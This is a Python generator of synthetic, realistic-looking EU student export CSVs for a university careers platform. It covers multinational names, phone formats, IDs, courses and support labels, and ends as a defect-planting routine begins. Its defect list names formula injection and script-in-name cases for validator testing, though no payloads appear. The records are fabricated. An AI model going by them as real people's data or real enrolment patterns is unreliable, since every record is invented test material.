"""Deterministic generator of realistic synthetic Handshake student sync exports (EU format)."""

from __future__ import annotations

import argparse
import csv
import json
import random
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from datetime import date, timedelta
from pathlib import Path
from typing import NamedTuple, TypeVar

T = TypeVar("T")

# ---------------------------------------------------------------------------------------------
# The contract (spec/student_sync_eu.txt and DESIGN.md "Domain facts beyond the spec")
# ---------------------------------------------------------------------------------------------

HEADERS: tuple[str, ...] = (
    "email_address",
    "username",
    "first_name",
    "last_name",
    "middle_name",
    "preferred_name",
    "auth_identifier",
    "primary_education:education_level_name",
    "primary_education:start_date",
    "primary_education:end_date",
    "primary_education:college_names",
    "school_year_name",
    "primary_education:currently_attending",
    "primary_education:major_names",
    "primary_education:minor_names",
    "card_id",
    "mobile_number",
    "gender",
    "disabled",
    "system_label_names",
    "assigned_to_email_address",
    "hometown_location_attributes:name",
    "campus_name",
)

EDUCATION_LEVELS: tuple[str, ...] = (
    "Certificate",
    "Undergraduate",
    "Postgraduate",
    "Doctorate",
    "Postdoctoral Researcher",
    "Non-Degree Seeking",
    "Secondary Education",
    "Further Education",
)

SCHOOL_YEARS: tuple[str, ...] = (
    "Foundation year",
    "Bachelor 1st year or equivalent",
    "Bachelor 2nd year or equivalent",
    "Bachelor 3rd year or equivalent",
    "Bachelor 4th year or equivalent",
    "Master 1st year or equivalent",
    "Master 2nd year or equivalent",
    "Doctorate",
    "Postdoctoral Researcher",
    "Masters of Business Administration",
    "Alumni",
    "Certificate Program",
    "Further education",
    "Placement",
    "Gap Year",
)

TODAY = date(2026, 11, 29)
"""The reference "today" of the samples: current students end after it, alumni before it."""

STUDENT_DOMAIN = "student.uni-example.eu"
STAFF_DOMAIN = "uni-example.eu"
CAMPUSES: tuple[str, ...] = ("Main", "City", "Riverside")
DEFAULT_ROWS = 300

_ID_SPACE = 10_000_000  # student IDs: "S" + 7 digits, or legacy "0" + 7 digits
_CARD_SPACE = 100_000_000  # card IDs: 2-digit issuer prefix + 8 digits
_LEGACY_ID_UNTIL = 2021  # students who enrolled up to this year keep their legacy 8-digit ID

_PE = "primary_education:"

# ---------------------------------------------------------------------------------------------
# Names, places and phones by nationality
# ---------------------------------------------------------------------------------------------


class _Nation:
    """Names, places and phone formats of one nationality."""

    __slots__ = ("cities", "country", "female", "female_last", "male", "male_last", "phone")

    def __init__(
        self,
        country: str,
        female: str,
        male: str,
        last: str,
        cities: str,
        phone: tuple[str, tuple[str, ...], int],
    ) -> None:
        self.country = country
        self.female = tuple(female.split(","))
        self.male = tuple(male.split(","))
        pairs = [item.split("|") for item in last.split(",")]
        self.male_last = tuple(p[0] for p in pairs)
        self.female_last = tuple(p[-1] for p in pairs)
        self.cities = tuple(f"{city}, {country}" for city in cities.split(","))
        self.phone = phone  # (country code, mobile prefixes, digits after the prefix)


_NATIONS: dict[str, _Nation] = {
    "DE": _Nation(
        "Germany",
        "Anna,Lena,Zoë,Hannah,Sophie,Marie,Johanna,Katharina,Lisa,Charlotte,Annika,Jana,"
        "Käthe,Lea,Mia,Friederike,Jülide",
        "Lukas,Jonas,Maximilian,Felix,Jörg,Björn,Jürgen,Tobias,Niklas,Moritz,Paul,Malte,"
        "Sönke,Till,Leon,Hendrik",
        "Müller,Schmidt,Schneider,Fischer,Weber,Meyer,Wagner,Becker,Schäfer,Koch,Bauer,Richter,"
        "Klein,Wolf,Schröder,Neumann,Schwarz,Zimmermann,Braun,Krüger,Hofmann,Hartmann,Lange,"
        "Köhler,Günther,Weiß,Groß,von Bülow,Müller-Lüdenscheidt,Jäger,Böhm,Vogt",
        "Berlin,Hamburg,München,Köln",
        ("49", ("151", "152", "157", "160", "162", "170", "171", "172", "175", "176", "178"), 8),
    ),
    "TR": _Nation(  # German-Turkish students, home postcode in Germany
        "Germany",
        "Ayşe,Elif,Zeynep,Gülşen,Büşra,Merve,Derya",
        "Emre,Mehmet,Can,Barış,Oğuz,Furkan,Kaan",
        "Yılmaz,Kaya,Demir,Şahin,Çelik,Öztürk,Aydın,Doğan,Arslan,Koç",
        "Berlin,Duisburg,Gelsenkirchen",
        ("49", ("151", "152", "157", "160", "176", "177", "179"), 8),
    ),
    "FR": _Nation(
        "France",
        "Camille,Léa,Chloé,Manon,Inès,Océane,Clémence,Héloïse,Amélie,Maëlle,Noémie,Zoé,"
        "Marie-Claire,Anaïs",
        "Théo,Léo,Hugo,Jérôme,François,Mathis,Raphaël,Gaël,Noël,Benoît,Étienne,Loïc,Jean-Luc",
        "Martin,Bernard,Dubois,Thomas,Robert,Richard,Petit,Durand,Leroy,Moreau,Lefèvre,Girard,"
        "Rousseau,Mercier,Fournier,Faure,André,Chevalier,Le Gall,Lemaître,Bénard,Côté,"
        "de la Fontaine",
        "Lyon,Saint-Étienne,Besançon,Nîmes,Orléans,Strasbourg",
        ("33", ("6", "7"), 8),
    ),
    "PL": _Nation(
        "Poland",
        "Zofia,Małgorzata,Katarzyna,Agnieszka,Joanna,Łucja,Wiktoria,Alicja,Magdalena,Żaneta,"
        "Aleksandra",
        "Łukasz,Paweł,Michał,Wojciech,Krzysztof,Tomasz,Jakub,Bartłomiej,Grzegorz,Mikołaj",
        "Nowak,Kowalski|Kowalska,Wiśniewski|Wiśniewska,Wójcik,Kowalczyk,Kamiński|Kamińska,"
        "Lewandowski|Lewandowska,Zieliński|Zielińska,Szymański|Szymańska,Woźniak,"
        "Dąbrowski|Dąbrowska,Kozłowski|Kozłowska,Mazur,Krawczyk,Król,Wróbel,Pawłowski|Pawłowska,"
        "Nowak-Jeziorański|Nowak-Jeziorańska",
        "Kraków,Łódź,Gdańsk,Wrocław,Poznań,Białystok",
        ("48", ("5", "6", "7", "8"), 8),
    ),
    "CZ": _Nation(
        "Czechia",
        "Šárka,Tereza,Kateřina,Lucie,Veronika,Markéta,Zuzana,Barbora,Eliška,Anežka,Klára",
        "Jan,Jiří,Petr,Tomáš,Ondřej,Lukáš,Matěj,Vojtěch,Jakub,Štěpán,Přemysl",
        "Novák|Nováková,Svoboda|Svobodová,Dvořák|Dvořáková,Černý|Černá,"
        "Procházka|Procházková,Kučera|Kučerová,Veselý|Veselá,Horák|Horáková,Němec|Němcová,"
        "Pokorný|Pokorná,Hájek|Hájková,Růžička|Růžičková,Beneš|Benešová,Kolář|Kolářová",
        "Praha,Brno,Ostrava,České Budějovice,Plzeň",
        ("420", ("6", "7"), 8),
    ),
    "ES": _Nation(
        "Spain",
        "María,Lucía,Carmen,Sofía,Inés,Ainhoa,Begoña,Nerea,Marta,Paula,Mónica",
        "José,Álvaro,Sergio,Jesús,Andrés,Íñigo,Rubén,Raúl,Adrián,Javier,Ángel,Joaquín,Ignacio",
        "García López,Núñez,Fernández,Martínez,Sánchez,Pérez,Gómez,Rodríguez,Jiménez,Muñoz,"
        "Álvarez,Hernández,Díaz,Romero,Ibáñez,Ortiz,Peña,Martín Gómez,Ruiz de la Peña",
        "Sevilla,A Coruña,Málaga,Zaragoza,Valencia,Córdoba",
        ("34", ("6", "7"), 8),
    ),
    "IT": _Nation(
        "Italy",
        "Giulia,Chiara,Francesca,Aurora,Martina,Alessia,Beatrice,Ilaria,Ludovica",
        "Luca,Matteo,Niccolò,Lorenzo,Andrea,Davide,Federico,Gabriele,Tommaso,Nicolò",
        "Rossi,Russo,Ferrari,Esposito,Bianchi,Romano,Colombo,Ricci,Marino,Greco,Bruno,Gallo,"
        "Conti,De Luca,D'Angelo,Mancini,Lo Russo,Della Rovere,D'Amico",
        "Bologna,Forlì,Torino,Napoli,Cantù,Palermo",
        ("39", ("320", "331", "333", "347", "348", "366", "389"), 7),
    ),
    "SE": _Nation(
        "Sweden",
        "Åsa,Linnéa,Märta,Ingrid,Elin,Maja,Saga,Ebba",
        "Björn,Måns,Sören,Oskar,Gustav,Axel,Nils,Hugo",
        "Andersson,Johansson,Karlsson,Nilsson,Eriksson,Öberg,Åberg,Lindström,Ångström,Sjöberg,"
        "Bergström,Holmqvist,Ekström,Wallén",
        "Göteborg,Malmö,Västerås,Örebro,Linköping",
        ("46", ("70", "72", "73", "76"), 7),
    ),
    "DK": _Nation(
        "Denmark",
        "Freja,Ida,Sofie,Mette,Kirsten,Signe,Astrid",
        "Søren,Mads,Rasmus,Jørgen,Anders,Frederik,Mikkel",
        "Jensen,Nielsen,Hansen,Pedersen,Andersen,Christensen,Sørensen,Møller,Kjær,Østergaard,"
        "Bækgaard,Vestergaard",
        "København,Aarhus,Odense,Aalborg,Køge",
        ("45", ("2", "3", "4", "5", "6", "7", "8", "9"), 7),
    ),
    "NO": _Nation(
        "Norway",
        "Ingrid,Sigrid,Solveig,Ragnhild,Tuva,Kjersti,Marte",
        "Ole,Håkon,Sindre,Øyvind,Eirik,Magnus,Ørjan",
        "Hansen,Johansen,Olsen,Larsen,Solberg,Haugen,Bakken,Strøm,Sæther,Brøndbo,Dæhlie",
        "Tromsø,Bergen,Trondheim,Bodø,Ålesund",
        ("47", ("4", "9"), 7),
    ),
    "FI": _Nation(
        "Finland",
        "Aino,Helmi,Päivi,Sanna,Elina,Siiri",
        "Väinö,Eetu,Juho,Mikko,Ville,Onni",
        "Korhonen,Virtanen,Mäkinen,Nieminen,Mäkelä,Hämäläinen,Laine,Järvinen,Kärkkäinen",
        "Jyväskylä,Tampere,Oulu,Turku,Hämeenlinna",
        ("358", ("40", "41", "44", "45", "50"), 7),
    ),
    "PT": _Nation(
        "Portugal",
        "Inês,Beatriz,Leonor,Matilde,Mariana,Conceição,Margarida,Francisca",
        "João,Tomás,Gonçalo,Duarte,Rodrigo,Simão,Afonso,Martim",
        "Silva,Santos,Ferreira,Pereira,Oliveira,Costa,Rodrigues,Martins,Sousa,Gonçalves,"
        "Magalhães,Guimarães,Araújo,Lourenço,da Silva,de Sousa,Santos Ferreira",
        "Porto,Coimbra,Braga,Évora,Setúbal",
        ("351", ("91", "92", "93", "96"), 7),
    ),
    "HU": _Nation(
        "Hungary",
        "Ágnes,Zsófia,Réka,Eszter,Dóra,Lívia,Boglárka,Tünde,Anikó,Orsolya",
        "Bálint,Gergő,Máté,Ádám,Levente,Ákos,Dániel,Zoltán,Péter,Tamás",
        "Nagy,Kovács,Tóth,Szabó,Horváth,Varga,Kiss,Molnár,Németh,Farkas,Balogh,Juhász,Mészáros,"
        "Szűcs,Hegedűs,Fülöp",
        "Pécs,Debrecen,Szeged,Győr,Székesfehérvár",
        ("36", ("20", "30", "31", "50", "70"), 7),
    ),
    "NL": _Nation(
        "Netherlands",
        "Saskia,Femke,Anouk,Eline,Maartje,Noëlle,Zoë",
        "Daan,Sem,Bram,Thijs,Joël,Sjoerd",
        "de Vries,van den Berg,van Dijk,Bakker,Janssen,Visser,Smit,de Jong,van der Meer,Mulder",
        "Utrecht,Den Haag,Groningen,Eindhoven",
        ("31", ("6",), 8),
    ),
    "IE": _Nation(
        "Ireland",
        "Siobhán,Aoife,Niamh,Sinéad,Caoimhe,Orla",
        "Seán,Ciarán,Pádraig,Oisín,Cathal,Eoin",
        "O'Brien,O'Connor,Ó Briain|Ní Bhriain,McCarthy,Walsh,Byrne,Ó Súilleabháin",
        "Cork,Galway,Limerick,Dún Laoghaire",
        ("353", ("83", "85", "86", "87", "89"), 7),
    ),
    "RO": _Nation(
        "Romania",
        "Ioana,Andreea,Elena,Ștefania,Mădălina,Bianca",
        "Mihai,Ștefan,Andrei,Radu,Bogdan,Tudor",
        "Popescu,Ionescu,Țurcanu,Dumitrescu,Stănescu,Rădulescu,Munteanu",
        "Cluj-Napoca,Iași,Timișoara,Brașov,Constanța",
        ("40", ("72", "73", "74", "75", "76"), 7),
    ),
}

# home country of the university is Germany; weights in percent
_NATION_WEIGHTS: tuple[tuple[str, int], ...] = (
    ("DE", 38), ("TR", 5), ("FR", 7), ("PL", 7), ("CZ", 4), ("ES", 6), ("IT", 6), ("SE", 3),
    ("DK", 2), ("NO", 2), ("FI", 2), ("PT", 4), ("HU", 4), ("NL", 4), ("IE", 3), ("RO", 3),
)  # fmt: skip

_GERMAN_POSTCODES: tuple[str, ...] = (
    "01067", "01307", "04109", "04275", "06108", "07743", "09111", "10115", "10247", "10997",
    "12043", "13353", "14467", "20095", "20357", "22767", "24103", "28195", "30159", "33602",
    "37073", "40210", "44137", "45127", "47051", "48143", "50667", "50937", "53111", "55116",
    "60311", "60487", "64283", "66111", "68159", "69117", "70173", "72074", "76131", "79098",
    "80331", "80802", "81667", "86150", "90402", "93047", "97070", "99084",
)  # fmt: skip

_NICKNAMES: dict[str, str] = {
    "Katarzyna": "Kasia", "Małgorzata": "Gosia", "Joanna": "Asia", "Aleksandra": "Ola",
    "Maximilian": "Max", "Katharina": "Kathi", "Johanna": "Hanna", "Tobias": "Tobi",
    "Friederike": "Frieda", "Federico": "Fede", "Tommaso": "Tommy", "Lorenzo": "Enzo",
    "José": "Pepe", "Ignacio": "Nacho", "Jesús": "Chus", "Boglárka": "Bogi", "Zsófia": "Zsófi",
    "Dániel": "Dani", "Zoltán": "Zoli", "Kateřina": "Katka", "Tereza": "Terka", "Jiří": "Jirka",
    "Ondřej": "Ondra", "Tomáš": "Tom", "Frederik": "Frede", "Ragnhild": "Ragna",
    "Bartłomiej": "Bartek", "Wojciech": "Wojtek", "Mikołaj": "Miki", "Francesca": "Fran",
    "Margarida": "Guida", "Francisca": "Chica", "Gonçalo": "Gonça", "Mădălina": "Mădă",
    "Caoimhe": "Keeva", "Büşra": "Büşi", "Jean-Luc": "JL", "Marie-Claire": "Marie",
    "Niccolò": "Nicco", "Ștefan": "Fane", "Aoife": "Effie", "Héloïse": "Élo",
}  # fmt: skip

_STAFF: tuple[str, ...] = tuple(
    f"{local}@{STAFF_DOMAIN}"
    for local in (
        "k.schneider", "m.dubois", "a.kowalska", "p.horvath", "j.lindqvist", "s.moreau",
        "careers.advice", "t.okonkwo", "l.garcia-ruiz", "b.novakova",
    )
)  # fmt: skip

# ---------------------------------------------------------------------------------------------
# Colleges, courses, campuses
# ---------------------------------------------------------------------------------------------

# college -> (campus, undergraduate courses, postgraduate courses)
_COLLEGES: dict[str, tuple[str, tuple[str, ...], tuple[str, ...]]] = {
    "Faculty of Arts and Humanities": (
        "Main",
        ("History", "English Literature", "Philosophy", "Romance Languages", "Musicology",
         "Art History", "Linguistics"),
        ("Medieval Studies", "Translation and Interpreting", "Comparative Literature"),
    ),
    "Faculty of Science": (
        "Main",
        ("Biology", "Chemistry", "Physics", "Mathematics", "Computer Science",
         "Environmental Science"),
        ("Data Science", "Molecular Biology", "Applied Mathematics", "Quantum Technologies"),
    ),
    "Faculty of Engineering": (
        "Riverside",
        ("Mechanical Engineering", "Civil Engineering", "Electrical Engineering",
         "Architecture"),
        ("Renewable Energy Systems", "Robotics and Autonomous Systems"),
    ),
    "School of Business and Economics": (
        "City",
        ("Economics", "Business Administration", "International Management"),
        ("Finance", "Marketing and Consumer Behaviour", "Applied Economics"),
    ),
    "Faculty of Law": (
        "City",
        ("Law", "European Law"),
        ("European and International Law (LL.M.)", "Law and Technology"),
    ),
    "Faculty of Medicine and Health Sciences": (
        "Riverside",
        ("Medicine", "Nursing", "Pharmacy", "Psychology"),
        ("Public Health", "Clinical Psychology"),
    ),
    "Faculty of Social Sciences": (
        "Main",
        ("Sociology", "Political Science", "International Relations",
         "Politics, Philosophy and Economics", "European Studies"),
        ("European Governance", "Migration Studies"),
    ),
}  # fmt: skip
_COLLEGE_NAMES: tuple[str, ...] = tuple(_COLLEGES)

_MINORS: tuple[str, ...] = (
    "German as a Foreign Language", "Entrepreneurship", "Philosophy", "Music", "Statistics",
    "Sustainability", "Digital Humanities", "Spanish", "Gender Studies", "Economics",
)  # fmt: skip

_CERTIFICATES: tuple[str, ...] = (
    "Certificate in Project Management",
    "Certificate in Intercultural Communication",
    "Certificate in Applied Data Analysis",
)
_FURTHER_ED: tuple[str, ...] = (
    "Access to Higher Education (Science)",
    "Access to Higher Education (Humanities)",
    "Vocational Diploma in Laboratory Practice",
)
_JUNIOR_STUDY: tuple[str, ...] = (
    "Junior Study Programme: Mathematics",
    "Junior Study Programme: Physics",
    "Junior Study Programme: Computer Science",
)

_GENDERS_OTHER: tuple[str, ...] = ("Non-binary", "Prefer not to say", "Divers", "Genderqueer")

# ---------------------------------------------------------------------------------------------
# Kinds of student: school year -> level, dates, attendance
# ---------------------------------------------------------------------------------------------


class _Edu:
    """The education part of one student."""

    __slots__ = ("attending", "end", "level", "start", "track", "year")

    def __init__(
        self, level: str, year: str, start: date, end: date, attending: bool, track: str
    ) -> None:
        self.level = level
        self.year = year
        self.start = start
        self.end = end
        self.attending = attending
        self.track = track  # ug, pg, phd, mba, cert, fe, junior, exchange


def _enrolled(rng: random.Random, year: int) -> date:
    """An enrolment date: winter term (autumn) mostly, sometimes the summer term."""
    if rng.random() < 0.85:
        return date(year, 9, 15) + timedelta(days=int(rng.random() * 31))
    return date(year, 4, 1) + timedelta(days=int(rng.random() * 15))


_GRADUATION = ((7, 31), (9, 30), (3, 31), (6, 30))


def _graduates(rng: random.Random, year: int) -> date:
    """An expected (or actual) graduation date in a given year."""
    month, day = _GRADUATION[int(rng.random() * 4)]
    return date(year, month, day)


def _bachelor(k: int) -> Callable[[random.Random], _Edu]:
    def build(rng: random.Random) -> _Edu:
        length = 4 if k == 4 or rng.random() < 0.3 else 3
        start_year = TODAY.year - (k - 1)
        return _Edu(
            "Undergraduate",
            SCHOOL_YEARS[k],
            _enrolled(rng, start_year),
            _graduates(rng, start_year + length),
            True,
            "ug",
        )

    return build


def _master(k: int) -> Callable[[random.Random], _Edu]:
    def build(rng: random.Random) -> _Edu:
        length = 1 if k == 1 and rng.random() < 0.25 else 2
        start_year = TODAY.year - (k - 1)
        return _Edu(
            "Postgraduate",
            SCHOOL_YEARS[4 + k],
            _enrolled(rng, start_year),
            _graduates(rng, start_year + length),
            True,
            "pg",
        )

    return build


def _simple(
    level: str, year: str, starts: tuple[int, ...], length: tuple[int, ...], track: str,
    attending: bool = True,
) -> Callable[[random.Random], _Edu]:  # fmt: skip
    """A kind of student who enrolled ``starts`` years from now (0, -1, ...) for ``length``."""

    def build(rng: random.Random) -> _Edu:
        start_year = TODAY.year + starts[int(rng.random() * len(starts))]
        end_year = max(start_year + length[int(rng.random() * len(length))], TODAY.year + 1)
        return _Edu(
            level,
            year,
            _enrolled(rng, start_year),
            _graduates(rng, end_year),
            attending,
            track,
        )

    return build


def _exchange(rng: random.Random) -> _Edu:
    start = date(TODAY.year, 9, 1) + timedelta(days=int(rng.random() * 31))
    end = date(TODAY.year + 1, 2, 28) if rng.random() < 0.5 else date(TODAY.year + 1, 7, 31)
    year = SCHOOL_YEARS[3] if rng.random() < 0.7 else SCHOOL_YEARS[5]
    return _Edu("Non-Degree Seeking", year, start, end, True, "exchange")


_ALUMNI_LEVELS = (("Undergraduate", "ug", 3), ("Undergraduate", "ug", 4),
                  ("Undergraduate", "ug", 3), ("Postgraduate", "pg", 2),
                  ("Postgraduate", "pg", 1), ("Doctorate", "phd", 4))  # fmt: skip


def _alumnus(rng: random.Random) -> _Edu:
    level, track, length = _ALUMNI_LEVELS[int(rng.random() * len(_ALUMNI_LEVELS))]
    end = _graduates(rng, TODAY.year - int(rng.random() * 12))  # graduated in the last 12 years
    start = date(end.year - length, 10, 1) + timedelta(days=int(rng.random() * 15))
    return _Edu(level, "Alumni", start, end, False, track)


_KINDS: tuple[tuple[Callable[[random.Random], _Edu], int], ...] = (
    (_bachelor(1), 14),
    (_bachelor(2), 13),
    (_bachelor(3), 12),
    (_bachelor(4), 4),
    (_simple("Undergraduate", "Foundation year", (0,), (4,), "ug"), 3),
    (_simple("Undergraduate", "Placement", (-3, -2), (4,), "ug"), 2),
    (_simple("Undergraduate", "Gap Year", (-2, -1), (4,), "ug", attending=False), 1),
    (_master(1), 9),
    (_master(2), 8),
    (_simple("Postgraduate", "Masters of Business Administration", (-1, 0), (2,), "mba"), 2),
    (_simple("Doctorate", "Doctorate", (-6, -5, -4, -3, -2, -1, 0), (4, 5), "phd"), 5),
    (_simple("Postdoctoral Researcher", "Postdoctoral Researcher", (-2, -1, 0), (2, 3), "phd"),
     1),
    (_simple("Certificate", "Certificate Program", (0,), (1,), "cert"), 2),
    (_simple("Further Education", "Further education", (-1, 0), (1, 2), "fe"), 2),
    (_simple("Secondary Education", "Foundation year", (0,), (1,), "junior"), 1),
    (_exchange, 4),
    (_alumnus, 17),
)  # fmt: skip

# ---------------------------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------------------------

_FOLD = str.maketrans(
    {"ł": "l", "Ł": "L", "ø": "o", "Ø": "O", "æ": "ae", "Æ": "AE", "ß": "ss", "đ": "d",
     "Đ": "D", "ı": "i", "œ": "oe", "Œ": "OE", "þ": "th", "ð": "d"}
)  # fmt: skip
_LOCAL_OK = frozenset("abcdefghijklmnopqrstuvwxyz0123456789-")


def ascii_local(name: str) -> str:
    """Fold a name to the ASCII used in email local parts: ``Núñez-Łoś`` -> ``nunez-los``."""
    decomposed = unicodedata.normalize("NFKD", name.translate(_FOLD)).lower().replace(" ", "-")
    return "".join(ch for ch in decomposed if ch in _LOCAL_OK)


def _affine(rng: random.Random, modulus: int) -> tuple[int, int]:
    """Coefficients of a bijection ``i -> (a*i + b) % modulus`` (modulus a power of ten)."""
    while True:
        a = rng.randrange(modulus // 10, modulus)
        if a % 2 and a % 5:
            return a, rng.randrange(modulus)


def _pool(weighted: Iterable[tuple[T, int]]) -> list[T]:
    """A list where each item appears as often as its weight (for fast weighted choice)."""
    return [item for item, weight in weighted for _ in range(weight)]


def _phone(rng: random.Random, nation: _Nation, domestic: bool) -> str:
    r = rng.random()
    if r < 0.1:
        return ""
    code, prefixes, digits = nation.phone
    number = (
        prefixes[int(rng.random() * len(prefixes))] + f"{int(rng.random() * 10**digits):0{digits}d}"
    )
    if r < 0.16:
        return f"00{code}{number}"
    if domestic and r < 0.24:
        return f"0{number}"  # national format, digits only
    return f"+{code}{number}"


# ---------------------------------------------------------------------------------------------
# The clean export
# ---------------------------------------------------------------------------------------------


def generate_rows(n: int, seed: int = 7) -> tuple[list[str], list[dict[str, str]]]:
    """Generate ``n`` clean student rows (every rule of the spec holds) and the full header.

    Deterministic for a given seed; the first ``k`` rows do not depend on ``n``.
    """
    return list(HEADERS), list(iter_rows(n, seed))


def iter_rows(n: int, seed: int = 7) -> Iterator[dict[str, str]]:
    """The rows of :func:`generate_rows`, one at a time (stream millions to disk in little memory).

    Raises:
        ValueError: when ``n`` is negative or above the 10 million student IDs available.
    """
    if not 0 <= n <= _ID_SPACE:
        raise ValueError(f"n must be between 0 and {_ID_SPACE}, not {n}")
    return _rows(n, seed)


def _rows(n: int, seed: int) -> Iterator[dict[str, str]]:
    rng = random.Random(seed)
    id_a, id_b = _affine(rng, _ID_SPACE)
    card_a, card_b = _affine(rng, _CARD_SPACE)
    auth_a, auth_b = _affine(rng, _ID_SPACE)
    nations = [_NATIONS[code] for code in _pool(_NATION_WEIGHTS)]
    portuguese = _NATIONS["PT"]
    kinds = _pool(_KINDS)
    counters: dict[str, int] = {}
    local_cache: dict[str, str] = {}
    rand = rng.random
    n_nations, n_kinds, n_colleges = len(nations), len(kinds), len(_COLLEGE_NAMES)
    n_minors, n_staff, n_postcodes = len(_MINORS), len(_STAFF), len(_GERMAN_POSTCODES)

    def pick(items: Sequence[str]) -> str:
        return items[int(rand() * len(items))]

    def local(name: str) -> str:
        folded = local_cache.get(name)
        if folded is None:
            folded = local_cache[name] = ascii_local(name)
        return folded

    for i in range(n):
        nation = nations[int(rand() * n_nations)]
        domestic = nation.country == "Germany"
        female = rand() < 0.52
        firsts = nation.female if female else nation.male
        first = pick(firsts)
        last = pick(nation.female_last if female else nation.male_last)
        middle = ""
        if rand() < (0.4 if nation is portuguese else 0.15):
            middle = pick(firsts)
            if middle == first:
                middle = ""
        preferred = _NICKNAMES.get(first, "") if rand() < 0.35 else ""

        edu = kinds[int(rand() * n_kinds)](rng)

        # identities: username anchor, email, SSO identifier, card
        value = (id_a * i + id_b) % _ID_SPACE
        legacy = edu.start.year <= _LEGACY_ID_UNTIL
        username = f"0{value:07d}" if legacy else f"S{value:07d}"
        key = f"{local(first)}.{local(last)}"
        count = counters.get(key, 0) + 1
        user_l = username.lower()
        email = f"{key}{count}@{STUDENT_DOMAIN}"
        while user_l in email:  # never in practice: the counter is far shorter than an ID
            count += 1
            email = f"{key}{count}@{STUDENT_DOMAIN}"
        counters[key] = count
        card_value = (card_a * i + card_b) % _CARD_SPACE
        prefix = 4
        card = f"0{prefix}{card_value:08d}"
        while user_l in card or card in user_l or card in email:
            prefix += 1  # another issuer prefix: still unique, no longer overlapping
            card = f"0{prefix}{card_value:08d}"
        auth = f"u{(auth_a * i + auth_b) % _ID_SPACE:07d}"

        # courses and colleges
        college = _COLLEGE_NAMES[int(rand() * n_colleges)]
        campus, ug_courses, pg_courses = _COLLEGES[college]
        colleges = college
        minors = ""
        track = edu.track
        if track in ("ug", "exchange"):
            majors = pick(ug_courses)
            if track == "ug" and rand() < 0.15:  # joint honours
                other = _COLLEGE_NAMES[int(rand() * n_colleges)]
                second = pick(_COLLEGES[other][1])
                if second != majors:
                    majors = f"{majors};{second}"
                    if other != college:
                        colleges = f"{college};{other}"
            r = rand()
            if r < 0.05:
                minor1, minor2 = pick(_MINORS), _MINORS[int(rand() * n_minors)]
                minors = minor1 if minor1 == minor2 else f"{minor1};{minor2}"
            elif r < 0.3:
                minors = _MINORS[int(rand() * n_minors)]
        elif track == "pg":
            majors = pick(pg_courses)
            if rand() < 0.08:
                minors = _MINORS[int(rand() * n_minors)]
        elif track == "mba":
            college, campus = "School of Business and Economics", "City"
            colleges, majors = college, "Master of Business Administration"
        elif track == "phd":
            majors = f"Doctoral Programme in {pick(ug_courses)}"
        elif track == "cert":
            majors = pick(_CERTIFICATES)
        elif track == "fe":
            majors = pick(_FURTHER_ED)
        else:
            college, campus = "Faculty of Science", "Main"
            colleges, majors = college, pick(_JUNIOR_STUDY)
        if rand() < 0.07:
            colleges = ""

        # labels: never blank, since a blank cell wipes all of the student's labels
        labels = ["Full-time" if rand() < 0.88 else "Part-time"]
        if not domestic:
            labels.append("International student")
        if track == "exchange":
            labels.append("Erasmus+ exchange")
        r = rand()
        if r < 0.1:
            labels.append("Widening participation")
        elif r < 0.17:
            labels.append("First generation")
        elif r < 0.22:
            labels.append("Scholarship holder")
        elif r < 0.25:
            labels.append("Disability support")
        elif r < 0.27:
            labels.append("Student athlete")
        elif r < 0.28:
            labels.append("Care leaver")
        if not edu.attending and edu.year == "Alumni" and rand() < 0.1:
            labels.append("Alumni mentor")

        r = rand()
        if r < 0.12:
            gender = ""
        elif r < 0.17:
            gender = _GENDERS_OTHER[int(rand() * 4)]
        else:
            gender = "Female" if female else "Male"

        if rand() < 0.08:
            hometown = ""
        elif domestic:
            hometown = _GERMAN_POSTCODES[int(rand() * n_postcodes)]
        else:
            hometown = pick(nation.cities)

        alumni = edu.year == "Alumni"
        yield {
            "email_address": email,
            "username": username,
            "first_name": first,
            "last_name": last,
            "middle_name": middle,
            "preferred_name": preferred,
            "auth_identifier": auth,
            "primary_education:education_level_name": edu.level,
            "primary_education:start_date": edu.start.isoformat(),
            "primary_education:end_date": edu.end.isoformat(),
            "primary_education:college_names": colleges,
            "school_year_name": edu.year,
            "primary_education:currently_attending": "TRUE" if edu.attending else "FALSE",
            "primary_education:major_names": majors,
            "primary_education:minor_names": minors,
            "card_id": card,
            "mobile_number": _phone(rng, nation, domestic),
            "gender": gender,
            "disabled": "TRUE" if rand() < (0.12 if alumni else 0.01) else "FALSE",
            "system_label_names": ";".join(labels),
            "assigned_to_email_address": _STAFF[int(rand() * n_staff)] if rand() < 0.55 else "",
            "hometown_location_attributes:name": hometown,
            "campus_name": campus,
        }


def write_csv(path: str | Path, header: Sequence[str], rows: Iterable[Mapping[str, str]]) -> None:
    """Write an export: UTF-8 without BOM, comma-delimited, CRLF, minimal quoting."""
    with Path(path).open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=",", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
        writer.writerow(header)
        writer.writerows([row.get(column, "") for column in header] for row in rows)


# ---------------------------------------------------------------------------------------------
# Planted defects
# ---------------------------------------------------------------------------------------------

_LONG_COURSE = (
    "Interdisciplinary Studies in Comparative European Law, Economics and Political Science "
    "with Integrated Year Abroad, Professional Practice Placement, Advanced Research Methods, "
    "Sustainable Development, Digital Transformation of Public Administration and Intercultural "
    "Communication in Multilingual Societies (Joint Degree)"
)[:300]

DEFECTS: tuple[str, ...] = (
    "duplicate_username",
    "duplicate_email",
    "blank_first_name",
    "blank_email",
    "invalid_school_year",
    "invalid_education_level",
    "bad_date_format",
    "impossible_date",
    "end_before_start",
    "bad_boolean",
    "long_course",
    "username_in_email",
    "bad_phone",
    "formula_injection",
    "stray_whitespace",
    "excel_mangled_id",
    "alumni_attending",
    "foreign_email_domain",
    "blank_labels",
    "script_in_name",
)
"""The defects :func:`plant_defects` plants, in the order of its report."""

Row = dict[str, str]
Predicate = Callable[[Row], bool]


def _is_alumni(row: Row) -> bool:
    return row["school_year_name"] == "Alumni"


def _is_current(row: Row) -> bool:
    return row["school_year_name"] != "Alumni"


def _dmy(iso: str) -> str:
    year, month, day = iso.split("-")
    return f"{day}/{month}/{year}"


def _title_local(email: str) -> str:
    local, _, domain = email.partition("@")
    return ".".join(part[:1].upper() + part[1:] for part in local.split(".")) + "@" + domain


def plant_defects(
    header: Sequence[str], rows: Sequence[Mapping[str, str]], seed: int = 7
) -> tuple[list[dict[str, str]], dict[str, list[int]]]:
    """Copy ``rows`` and plant known defects, each in 2-3 rows (one defect per row).

    Returns:
